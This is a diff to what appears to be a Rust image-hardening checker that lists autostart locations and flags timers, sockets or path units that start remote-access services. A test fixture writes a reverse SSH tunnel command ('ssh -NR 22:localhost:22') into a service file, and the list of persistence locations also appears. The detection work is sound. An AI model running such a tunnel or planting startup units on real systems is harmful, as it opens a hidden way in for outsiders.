@@ -66,7 +66,7 @@ const UNITS: [&str; 52] = [
 ];
 
 /// Where commands stand that run by themselves.
-const TABLES: [&str; 9] = [
+const TABLES: [&str; 13] = [
     "/etc/crontab",
     "/etc/cron.d/*",
     "/etc/cron.{hourly,daily,weekly,monthly}/*",
@@ -76,6 +76,10 @@ const TABLES: [&str; 9] = [
     "/etc/rc.local",
     "/etc/rc.d/rc.local",
     "/etc/inittab",
+    "/etc/profile.d/*",
+    "/etc/systemd/user/*.service",
+    "~/.config/systemd/user/*.service",
+    "/var/lib/cloud/scripts/per-{boot,instance,once}/*",
 ];
 
 /// Words of commands that open a way in; the first of a line.
@@ -98,13 +102,23 @@ const LARGEST: u64 = 1 << 20;
 
 pub(super) fn check(image: &Image) -> Result<Finding, Error> {
     let (mut on, mut off) = (Vec::new(), Vec::new());
-    for unit in &image.units()?.units {
+    let units = image.units()?;
+    for unit in &units.units {
         let what = if is_named(&unit.name) { Some("lets somebody in from outside") } else { opens(image, unit)? };
         let Some(what) = what else { continue };
         let seen = |text: String| {
             let paths = if unit.enabled_by.is_empty() { vec![unit.path.clone()] } else { unit.enabled_by.clone() };
             paths.into_iter().map(move |path| Observation::at(path).text(text.clone())).collect::<Vec<_>>()
         };
+        // A timer, socket or path of the same name starts it as well.
+        let stem = unit.name.strip_suffix(".service").unwrap_or(&unit.name);
+        let starters = ["timer", "socket", "path"].map(|kind| format!("{stem}.{kind}"));
+        let starter = starters.iter().filter_map(|name| units.unit(name)).find(|unit| unit.state == State::Enabled);
+        if let Some(starter) = starter.filter(|_| unit.state != State::Enabled && unit.state != State::Masked) {
+            let text = format!("{} starts {}, which {what}", starter.name, unit.name);
+            on.extend(starter.enabled_by.iter().map(|path| Observation::at(path).text(text.clone())));
+            continue;
+        }
         match unit.state {
             State::Enabled => on.extend(seen(format!("{} is enabled and {what}", unit.name))),
             State::Disabled | State::Static | State::Other => {
@@ -258,6 +272,22 @@ mod tests {
         let finding = judged(&fixture.image(), "ACC-11");
         assert_eq!(finding.status, Status::Fail, "{finding:?}");
         assert!(!format!("{finding:?}").contains("support.example"));
+    }
+
+    #[test]
+    fn a_timer_that_starts_a_tunnel_fails_and_is_masked() {
+        let fixture = Fixture::debian();
+        fixture
+            .file("/etc/systemd/system/support.service", "[Service]\nExecStart=/usr/bin/ssh -NR 22:localhost:22 h\n");
+        let finding = judged(&fixture.image(), "ACC-11");
+        assert_eq!((finding.status, finding.observations.len()), (Status::Attest, 1));
+        fixture
+            .file("/etc/systemd/system/support.timer", "[Timer]\nOnBootSec=60\n[Install]\nWantedBy=timers.target\n")
+            .link("/etc/systemd/system/timers.target.wants/support.timer", "../support.timer");
+        assert_eq!(judged(&fixture.image(), "ACC-11").status, Status::Fail);
+        let Some(Remedy::Changes(changes)) = remedy_of(&fixture.image(), "ACC-11") else { panic!("a mask") };
+        let Change::Path { path, .. } = &changes[0] else { panic!("{changes:?}") };
+        assert_eq!(path, Path::new("/etc/systemd/system/support.timer"));
     }
 
     #[test]
